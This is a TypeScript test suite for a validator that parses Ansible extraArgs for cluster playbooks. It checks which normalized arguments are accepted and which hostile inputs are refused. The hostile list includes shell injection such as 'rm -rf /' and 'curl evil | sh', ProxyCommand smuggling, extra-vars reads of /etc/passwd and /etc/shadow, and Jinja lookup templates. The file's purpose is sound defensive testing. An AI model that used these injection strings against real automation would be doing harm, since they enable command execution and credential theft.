import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseExtraArgs, type ExtraArgsOptions, type ParsedExtraArgs } from '../../src/policy/extra-args.js';
import { assertRefused, collect } from './collect.js';

function rejects(input: string, code: string, ...fragments: string[]): void {
  assertRefused(JSON.stringify(input), (sink) => parseExtraArgs(input, sink), code, fragments);
}

/** Parses input that must be accepted. */
function parse(input: string | undefined, opts?: ExtraArgsOptions): ParsedExtraArgs {
  const { result, errors } = collect((sink) => parseExtraArgs(input, sink, opts));
  assert.deepEqual(errors, [], String(input));
  return result!;
}

test('kubean example extraArgs are accepted and normalized', () => {
  const cases: [string, { argv: string[]; limit?: string; extraVars?: Record<string, unknown>[] }][] = [
    ['--limit=node2', { argv: ['--limit', 'node2'], limit: 'node2' }],
    ['-e node=node2', { argv: ['-e', 'node=node2'], extraVars: [{ node: 'node2' }] }],
    [
      '-e node=node2,node3 -e reset_nodes=false -e allow_ungraceful_removal=true',
      {
        argv: ['-e', 'node=node2,node3', '-e', 'reset_nodes=false', '-e', 'allow_ungraceful_removal=true'],
        extraVars: [{ node: 'node2,node3' }, { reset_nodes: 'false' }, { allow_ungraceful_removal: 'true' }],
      },
    ],
    [
      '--limit=etcd,kube_control_plane -e ignore_assert_errors=true',
      { argv: ['--limit', 'etcd,kube_control_plane', '-e', 'ignore_assert_errors=true'], limit: 'etcd,kube_control_plane' },
    ],
    ['-e "kube_version=v1.29.0"', { argv: ['-e', 'kube_version=v1.29.0'] }],
    ['-vvv', { argv: ['-vvv'] }],
    ['-v -v --verbose', { argv: ['-vvv'] }],
    ['--limit node2', { argv: ['--limit', 'node2'], limit: 'node2' }],
    ['-l node2', { argv: ['--limit', 'node2'], limit: 'node2' }],
    ['-lnode2', { argv: ['--limit', 'node2'], limit: 'node2' }],
    ["--limit 'all:!node3'", { argv: ['--limit', 'all:!node3'], limit: 'all:!node3' }],
    ['--limit=node[1:3]', { argv: ['--limit', 'node[1:3]'], limit: 'node[1:3]' }],
    ['-bCD -f 10 --flush-cache --force-handlers', { argv: ['--become', '--check', '--diff', '--forks', '10', '--flush-cache', '--force-handlers'] }],
    ['--become-user=root -u ubuntu -T 30', { argv: ['--become-user', 'root', '--user', 'ubuntu', '--timeout', '30'] }],
    ['--list-hosts --list-tasks --list-tags --syntax-check', { argv: ['--list-hosts', '--list-tasks', '--list-tags', '--syntax-check'] }],
    ["--start-at-task='Install packages'", { argv: ['--start-at-task', 'Install packages'] }],
    ["--start-at-task='-dash first'", { argv: ['--start-at-task=-dash first'] }],
    ['-e reset_confirmation=yes', { argv: ['-e', 'reset_confirmation=yes'] }],
    [`-e a=1 -e 'b="x y"'`, { argv: ['-e', 'a=1', '-e', '{"b":"x y"}'] }],
    [`-e '{"kube_version": "v1.29.0", "upgrade_cluster_setup": true}'`, { argv: ['-e', '{"kube_version":"v1.29.0","upgrade_cluster_setup":true}'] }],
    [`--extra-vars='{x: yes, y: [1, 2]}'`, { argv: ['-e', '{"x":true,"y":[1,2]}'] }],
    [`-e 'a=1 b="two words" c={{ d | default("e f") }}'`, { argv: ['-e', '{"a":"1","b":"two words","c":"{{ (slipway_taint, ( d | default(\\"e f\\") ))[1] }}"}'] }],
    [`-e "kube_image_repo={{ registry_host }}/library"`, { argv: ['-e', '{"kube_image_repo":"{{ (slipway_taint, ( registry_host ))[1] }}/library"}'] }],
    ['-e download_localhost=false', { argv: ['-e', 'download_localhost=false'] }],
    // plain strings that could help assemble a template reach Ansible as unsafe
    [`-e 'b={'`, { argv: ['-e', '{"b":{"__ansible_unsafe":"{"}}'] }],
    [`-e '{"p": "pa#ss", "n": 1}'`, { argv: ['-e', '{"p":{"__ansible_unsafe":"pa#ss"},"n":1}'] }],
    ['', { argv: [] }],
  ];
  for (const [input, want] of cases) {
    const got = parse(input);
    assert.deepEqual(got.argv, want.argv, input);
    if (want.limit !== undefined) assert.equal(got.limit, want.limit, input);
    if (want.extraVars !== undefined) assert.deepEqual(got.extraVars, want.extraVars, input);
  }
  assert.deepEqual(parse(undefined), { argv: [], extraVars: [] });
});

test('tags are collected across repeated options', () => {
  const got = parse('-t a,b --tags c --skip-tags=d');
  assert.equal(got.tags, 'a,b,c');
  assert.equal(got.skipTags, 'd');
  assert.deepEqual(got.argv, ['--tags', 'a,b', '--tags', 'c', '--skip-tags', 'd']);
});

test('allowedVarNames restricts -e', () => {
  assert.deepEqual(parse('-e node=n1', { allowedVarNames: ['node'] }).extraVars, [{ node: 'n1' }]);
  assertRefused('other', (sink) => parseExtraArgs('-e other=1', sink, { allowedVarNames: ['node'] }), 'var-forbidden', ['-e other']);
});

const HOSTILE: [string, string, string[]][] = [
  // shell syntax
  ['--limit=node1; rm -rf /', 'shell-syntax', ["';'"]],
  ['--limit=$(id)', 'shell-syntax', ["'$'"]],
  ['--limit=`id`', 'shell-syntax', ["'`'"]],
  ['--limit=node1\nid', 'shell-syntax', ['line break']],
  ['-e x=1 && curl evil | sh', 'shell-syntax', ["'&'"]],
  // options that escape the cluster's hosts
  ["--ssh-common-args='-o ProxyCommand=id'", 'option-forbidden', ['--ssh-common-args', 'ProxyCommand']],
  ['--ssh-extra-args=-oProxyCommand=id', 'option-forbidden', ['--ssh-extra-args']],
  ['--scp-extra-args=x', 'option-forbidden', ['--scp-extra-args']],
  ['--sftp-extra-args x', 'option-forbidden', ['--sftp-extra-args']],
  ['--vault-password-file=/tmp/x', 'option-forbidden', ['--vault-password-file']],
  ['--vault-id=@prompt', 'option-forbidden', ['--vault-id']],
  ['-M /tmp', 'option-forbidden', ['-M', 'modules']],
  ['--module-path=/tmp', 'option-forbidden', ['--module-path']],
  ['-i /etc/ansible/hosts', 'option-forbidden', ['-i', 'inventory']],
  ['--inventory=10.0.0.9,', 'option-forbidden', ['--inventory']],
  ['--inventory-file=x', 'option-forbidden', ['--inventory-file']],
  ['--private-key=/root/.ssh/id_rsa', 'option-forbidden', ['--private-key']],
  ['--key-file /root/.ssh/id_rsa', 'option-forbidden', ['--key-file']],
  ['-c local', 'option-forbidden', ['-c', 'local']],
  ['--connection=local', 'option-forbidden', ['--connection']],
  ['-k', 'option-forbidden', ['-k', 'terminal']],
  ['-bK', 'option-forbidden', ['-K']],
  ['--ask-vault-pass', 'option-forbidden', ['--ask-vault-pass']],
  ['--become-password-file=/etc/shadow', 'option-forbidden', ['--become-password-file']],
  ['--connection-password-file=/etc/shadow', 'option-forbidden', ['--connection-password-file']],
  ['--become-method=su', 'option-forbidden', ['--become-method']],
  ['--step', 'option-forbidden', ['--step']],
  ['--', 'option-forbidden', ['--']],
  ['--version', 'option-forbidden', ['--version']],
  ['--lim=node1', 'option-unknown', ['--lim', 'abbreviations']],
  ['--ssh-c=x', 'option-unknown', ['--ssh-common-args']],
  ['-x', 'option-unknown', ['-x']],
  ['--whatever', 'option-unknown', ['--whatever']],
  // a second playbook and stray words
  ['other.yml', 'positional-argument', ['other.yml', 'another playbook']],
  ['--limit=node1 /tmp/evil.yml', 'positional-argument', ['/tmp/evil.yml']],
  ['node=node2', 'positional-argument', ['did you mean -e node=node2']],
  // option values
  ['--limit=@/tmp/hosts.retry', 'option-value', ['@']],
  ['--limit', 'option-value', ['--limit needs a value']],
  ['--limit -i', 'option-value', ['--limit needs a value', '-i']],
  ['-e', 'option-value', ['-e needs a value']],
  ['-f 0', 'option-value', ['-f', '1 to 500']],
  ['--forks=5000', 'option-value', ['--forks']],
  ['--become-user=-oProxyCommand=id', 'option-value', ['--become-user']],
  ["-u 'root;id'", 'option-value', ['-u']],
  ['--check=yes', 'option-value', ['--check takes no value']],
  ['--limit=a --limit=b', 'option-repeated', ['--limit given twice']],
  // extra vars that read files
  ['-e @/etc/passwd', 'extra-vars-file', ['@/etc/passwd']],
  ['-e@/etc/passwd', 'extra-vars-file', ['@/etc/passwd']],
  ['--extra-vars=@vars.yml', 'extra-vars-file', ['@vars.yml']],
  ['-e /etc/passwd', 'extra-vars-file', ['/etc/passwd']],
  ['-e ./vars.yml', 'extra-vars-file', ['./vars.yml']],
  // extra vars that redirect connections or act on the controller
  ['-e ansible_connection=local', 'var-forbidden', ['ansible_connection']],
  ['-e ansible_host=10.9.9.9', 'var-forbidden', ['ansible_host', 'outrank']],
  ['-e ansible_ssh_common_args=-oProxyCommand=id', 'var-forbidden', ['ansible_ssh_common_args']],
  ['-e ansible_python_interpreter=/tmp/x', 'var-forbidden', ['ansible_python_interpreter']],
  ['-e ansible_ssh_private_key_file=/root/.ssh/id_rsa', 'var-forbidden', ['ansible_ssh_private_key_file']],
  [`-e '{"ansible_become_exe": "sh -c id"}'`, 'var-forbidden', ['ansible_become_exe']],
  ['-e download_localhost=true', 'var-forbidden', ['download_localhost']],
  ['-e download_delegate=localhost', 'var-forbidden', ['download_delegate']],
  ['-e credentials_dir=/etc', 'var-forbidden', ['credentials_dir']],
  ['-e hostvars=x', 'var-forbidden', ['hostvars', 'reserved']],
  ['-e lookup=x', 'var-forbidden', ['lookup']],
  [`-e '{"x": {"__ansible_unsafe": "y"}}'`, 'var-value', ['__ansible_unsafe']],
  ['-e 1x=y', 'var-name', ['1x']],
  // templates in extra vars
  [`-e 'x={{ lookup("pipe","id") }}'`, 'template', ['lookup', 'pipe']],
  [`-e "x={{ q('file','/etc/shadow') }}"`, 'template', ['q(…)', '/etc/shadow']],
  [`-e "x={{ ''.__class__ }}"`, 'template', ['__class__']],
  [`-e 'x={{ query("env", "HOME") }}'`, 'template', ['query']],
  [`-e 'x={% for i in range(9) %}{% endfor %}'`, 'template', ['{% for %}']],
  [`-e '{"x": ["{{ lookup(\\"file\\", \\"/etc/shadow\\") }}"]}'`, 'template', ['lookup']],
  // malformed -e
  ['-e justaword', 'extra-vars-syntax', ['justaword', 'name=value']],
  [`-e 'x="unclosed'`, 'extra-vars-syntax', ['unbalanced']],
  [`-e 'x={{ y'`, 'extra-vars-syntax', ['unclosed']],
  [`-e '[1, 2]'`, 'extra-vars-syntax', ['mapping']],
  [`-e '{"a": 1, "a": 2}'`, 'extra-vars-syntax', ['Map keys must be unique']],
  [`-e '{"a": !unsafe "x"}'`, 'extra-vars-syntax', ['!unsafe']],
  ['-e x=a\\\\b', 'extra-vars-syntax', ['backslash', 'JSON form']],
];

test('hostile extraArgs are refused with the offending piece named', () => {
  assert.ok(HOSTILE.length >= 40);
  for (const [input, code, fragments] of HOSTILE) rejects(input, code, ...fragments);
});

test('a refused -e variable is filed under its name, once per variable', () => {
  const { result, errors } = collect((sink) => parseExtraArgs('-e ansible_host=10.0.0.9 -e download_localhost=true -e ok=1', sink));
  assert.equal(result, undefined);
  assert.deepEqual(errors.map((e) => [e.code, e.path]), [['var-forbidden', '-e ansible_host'], ['var-forbidden', '-e download_localhost']]);
  assert.ok(errors.every((e) => !e.message.includes('ansible_host:')), 'no location in the message');
});
